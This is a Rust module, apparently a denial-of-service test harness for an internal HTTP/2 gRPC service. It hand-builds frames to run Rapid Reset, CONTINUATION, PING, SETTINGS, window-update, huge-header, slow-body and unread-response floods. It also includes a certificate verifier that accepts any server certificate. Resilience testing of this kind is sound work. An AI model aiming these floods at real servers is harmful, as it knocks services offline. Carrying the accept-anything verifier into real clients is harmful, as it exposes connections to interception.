//! HTTP/2 as nobody should speak it, inside TLS and with a certificate that counts: frames written by hand.
//!
//! [`Papers`] are read from what an operator or a member has (a context, a keyring); [`Caller`] is a connection with
//! them; [`Flood`] is what is said on it, again and again.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName, UnixTime};
use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme, StreamOwned};

/// Frames that are written before there is a look at what comes back.
const BATCH: u32 = 50;
/// Half a frame of the usual size: what one header field is filled with.
const HUGE: usize = 8 << 10;
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What is done to the other side.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Questions that are taken back at once.
    RapidReset,
    /// Each must be answered.
    Pings,
    /// Each must be acknowledged.
    Settings,
    /// Headers that go on and on.
    Continuations,
    /// Headers of hundreds of kilobytes, which end.
    HugeHeaders,
    /// More questions than may be open, whose bodies come a byte at a time.
    SlowBodies,
    /// Questions whose answers nobody takes.
    Deaf,
    /// Windows that are opened for nothing.
    Windows,
}

impl Flood {
    /// In the order in which an attacker takes them.
    pub const ALL: [Flood; 8] = [
        Flood::RapidReset,
        Flood::Pings,
        Flood::Settings,
        Flood::Continuations,
        Flood::HugeHeaders,
        Flood::SlowBodies,
        Flood::Deaf,
        Flood::Windows,
    ];
}

/// A certificate and its key.
pub struct Papers(Arc<ClientConfig>);

impl Papers {
    /// Those in a context file, or in the keyring of a member.
    ///
    /// # Panics
    /// When it is neither.
    pub fn of(file: &Path) -> Papers {
        let text = std::fs::read_to_string(file).expect("a file with papers");
        let papers: serde_json::Value = serde_json::from_str(&text).expect("JSON");
        let bytes = |key: &str| {
            let text = papers[key].as_str().expect("a text");
            STANDARD.decode(text).expect("base64")
        };
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let mut config = ClientConfig::builder_with_provider(provider)
            .with_protocol_versions(&[&rustls::version::TLS13])
            .expect("it is known")
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(Anybody))
            .with_client_auth_cert(
                vec![CertificateDer::from(bytes("certificate"))],
                PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(bytes("key"))),
            )
            .expect("they go together");
        config.alpn_protocols = vec![b"h2".to_vec()];
        Papers(Arc::new(config))
    }
}

/// A connection on which HTTP/2 has begun.
pub struct Caller {
    stream: StreamOwned<ClientConnection, TcpStream>,
    /// The next question's number.
    next: u32,
    path: &'static str,
    frames: u64,
}

impl Caller {
    /// Over a connection that is there. `path`: what is asked.
    ///
    /// # Errors
    /// The other side does not go on.
    pub fn begin(stream: TcpStream, papers: &Papers, path: &'static str) -> io::Result<Caller> {
        stream.set_write_timeout(Some(Duration::from_secs(1)))?;
        stream.set_read_timeout(Some(Duration::from_secs(5)))?;
        let name = ServerName::try_from("member.ha-agent.internal").map_err(io::Error::other)?;
        let tls = ClientConnection::new(papers.0.clone(), name).map_err(io::Error::other)?;
        let mut stream = StreamOwned::new(tls, stream);
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
        let mut caller = Caller {
            stream,
            next: 1,
            path,
            frames: 0,
        };
        caller.frame(SETTINGS, 0, 0, &[])?;
        // The other side's settings: the handshake is done, and it lets us in.
        let mut first = [0];
        caller.stream.read_exact(&mut first)?;
        let brief = Some(Duration::from_millis(1));
        caller.stream.get_ref().set_read_timeout(brief)?;
        Ok(caller)
    }

    /// How many frames were sent.
    pub const fn frames(&self) -> u64 {
        self.frames
    }

    /// A batch of it.
    ///
    /// # Errors
    /// The other side has enough.
    pub fn batch(&mut self, of: Flood) -> io::Result<()> {
        for _ in 0..BATCH {
            self.one(of)?;
        }
        self.stream.flush()?;
        if of != Flood::Deaf {
            self.hear()?;
        }
        Ok(())
    }

    fn one(&mut self, of: Flood) -> io::Result<()> {
        match of {
            Flood::RapidReset => {
                let id = self.ask(END_STREAM | END_HEADERS, &[])?;
                self.frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())
            }
            Flood::Pings => self.frame(PING, 0, 0, &[7; 8]),
            Flood::Settings => self.frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Flood::Continuations => {
                let field = field(b"x-again", &[b'a'; HUGE]);
                if self.next == 1 {
                    self.ask(0, &[])?;
                }
                self.frame(CONTINUATION, 0, self.next - 2, &field)
            }
            Flood::HugeHeaders => {
                let id = self.ask(END_STREAM, &[])?;
                let field = field(b"x-huge", &[b'a'; HUGE]);
                for _ in 0..32 {
                    self.frame(CONTINUATION, 0, id, &field)?;
                }
                self.frame(CONTINUATION, END_HEADERS, id, &[])
            }
            Flood::SlowBodies => {
                let id = self.ask(END_HEADERS, &[])?;
                // A body of a megabyte is on its way, it says.
                self.frame(DATA, 0, id, &[0, 0, 16, 0, 0, b'#'])
            }
            Flood::Deaf => {
                if self.next == 1 {
                    // Nothing may come back on questions.
                    self.frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])?;
                }
                let id = self.ask(END_HEADERS, &[])?;
                self.frame(DATA, END_STREAM, id, &[0; 5])
            }
            Flood::Windows => self.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        }
    }

    /// The headers of a question, and its number.
    fn ask(&mut self, flags: u8, more: &[u8]) -> io::Result<u32> {
        let id = self.next;
        self.next += 2;
        // POST and https are in the static table; the others are written out.
        let mut headers = vec![0x83, 0x87];
        for (index, value) in [(0x04, self.path), (0x01, "a")] {
            headers.extend([index, value.len() as u8]);
            headers.extend(value.as_bytes());
        }
        headers.extend(field(b"content-type", b"application/grpc"));
        headers.extend(field(b"te", b"trailers"));
        headers.extend(more);
        self.frame(HEADERS, flags, id, &headers)?;
        Ok(id)
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> io::Result<()> {
        let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
        frame.extend([kind, flags]);
        frame.extend(stream.to_be_bytes());
        frame.extend(payload);
        self.frames += 1;
        self.stream.write_all(&frame)
    }

    /// Takes what has come.
    fn hear(&mut self) -> io::Result<()> {
        let mut buffer = [0; 16 << 10];
        loop {
            match self.stream.read(&mut buffer) {
                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
                Ok(_) => {}
                Err(e)
                    if matches!(
                        e.kind(),
                        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                    ) =>
                {
                    return Ok(());
                }
                Err(e) => return Err(e),
            }
        }
    }
}

/// A header field, written out and not to be remembered.
fn field(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut field = vec![0x00, name.len() as u8];
    field.extend(name);
    // A length as HPACK has it: seven bits, and what is above them in groups of seven.
    if value.len() < 127 {
        field.push(value.len() as u8);
    } else {
        field.push(127);
        let mut rest = value.len() - 127;
        while rest >= 128 {
            field.push((rest % 128) as u8 | 128);
            rest /= 128;
        }
        field.push(rest as u8);
    }
    field.extend(value);
    field
}

/// An attacker does not care whom he attacks.
#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Err(rustls::Error::General("only TLS 1.3".to_owned()))
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        rustls::crypto::ring::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}
